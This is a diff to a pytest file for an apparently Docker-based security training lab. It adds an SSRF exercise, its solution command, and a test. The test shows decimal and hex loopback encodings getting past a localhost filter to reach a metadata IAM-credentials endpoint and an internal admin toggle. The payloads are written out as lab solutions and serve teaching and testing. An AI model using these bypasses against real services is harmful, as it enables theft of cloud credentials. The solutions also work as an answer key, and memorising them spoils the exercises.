@@ -19,7 +19,7 @@ pytestmark = pytest.mark.docker
 
 FLAG = "FLAG{check-tasks}"
 AUTH_LOG = "/var/log/auth.log"
-INVOICES = "http://target:8080"
+INVOICES = PREVIEW = "http://target:8080"
 SIGN_IN = (
     "curl -sf -c jar -b jar -o /dev/null --data-urlencode username=alice "
     f"--data-urlencode password=wonderland {INVOICES}/login"
@@ -120,6 +120,15 @@ SOLUTIONS: dict[str, list[Solution]] = {
             "| sort -u | cut -d= -f2 > ~/answer-who.txt",
         ),
     ],
+    "ssrf": [
+        Solution(
+            "maintenance-on",
+            None,
+            "curl -sf -G --data-urlencode 'url=http://127.1:9000/admin/maintenance?mode=on' "
+            f"{PREVIEW}/preview",
+            where="workstation",
+        )
+    ],
     "log-triage": [
         Solution(
             "attacker-ip", "/home/trainee/answer-ip.txt", f"{TOP_FAILING_IP} > ~/answer-ip.txt"
@@ -138,6 +147,7 @@ SOLUTIONS: dict[str, list[Solution]] = {
 READY = {
     "rogue-listener": "ss -Htln | grep -q ':8080 ' && ss -Htln | grep -q ':9100 '",
     "broken-access": f"curl -sf -o /dev/null {INVOICES}/login",
+    "ssrf": f"curl -sf -o /dev/null {PREVIEW}/",
 }
 
 
@@ -264,3 +274,21 @@ def test_timeline_refuses_local_time_for_utc(docker_runtime, lab_session, lab_ex
         "TZ=UTC find /etc /var/www -newermt '2024-05-14 07:41' ! -newermt '2024-05-14 08:30' -type f 2>/dev/null",
     )
     assert sorted(found.split()) == ["/etc/cron.d/.sys-update", "/var/www/html/uploads/shell.php"]
+
+
+def test_ssrf_filter_is_bypassed_for_the_metadata_secret(lab_session, lab_exec, shipped_labs):
+    spec = shipped_labs["ssrf"]
+    key = lab_session(spec, FLAG).session_key
+    wait_ready(lab_exec, key, "ssrf", "workstation")
+    base = "http://{}:9000/latest/meta-data/iam/security-credentials/"
+
+    def preview(url: str) -> str:
+        command = f"curl -s -G --data-urlencode 'url={url}' {PREVIEW}/preview"
+        return lab_exec(key, "workstation", command)[1]
+
+    assert "not allowed" in preview(base.format("127.0.0.1"))
+    assert "not allowed" in preview(base.format("LocalHost"))
+    assert "shop-preview-role" in preview(base.format("2130706433"))
+    assert FLAG in preview(base.format("0x7f000001") + "shop-preview-role")
+    code, _ = lab_exec(key, "workstation", "curl -s -m 3 http://target:9000/")
+    assert code != 0  # the internal service is not reachable from outside
